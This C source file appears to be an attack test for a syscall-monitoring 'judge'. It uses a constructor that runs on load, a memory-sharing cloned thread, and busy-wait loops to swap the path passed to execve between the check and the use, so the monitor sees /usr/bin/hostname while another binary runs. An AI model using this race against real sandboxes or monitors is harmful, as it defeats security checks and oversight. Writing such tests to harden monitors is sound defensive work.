/* While the judge looks at the name in an execve(2), a thread puts another name in its place. */
#include <sched.h>
#include <sys/wait.h>

#include "../../tests/judge/attacks/liar.h"
#include "lab/uts.c"

static char path[PATH_MAX], step[PATH_MAX];
static _Alignas(16) char stack[65536];

static void wait_for(int rounds)
{
	for (int i = 0; i < rounds; i++)
		__asm__ volatile("" ::: "memory");
}

static int swap(void *argument)
{
	(void)argument;
	for (;;) {
		strcpy(path, step);
		wait_for(20000);
		strcpy(path, "/usr/bin/hostname");
		wait_for(10000);
	}
	return 0;
}

static void execute(const char *name)
{
	if (fork() == 0) {
		clone(swap, stack + sizeof(stack), CLONE_VM, NULL);
		usleep(1000);
		execl(path, "hostname", name, (char *)NULL);
		_exit(1);
	}
	wait(NULL);
}

__attribute__((constructor)) static void attack(int argc, char **argv)
{
	char *name = find_name(argc, argv);

	if (argc == 2) /* this is the step again */
		_exit(0);
	if (!name || unshare(CLONE_NEWUTS) < 0)
		return;
	strcpy(step, argv[0]);
	strcpy(path, argv[0]);
	for (int i = 0; i < 6; i++)
		execute(name);
	execv(argv[argc - 2], argv + argc - 2);
}
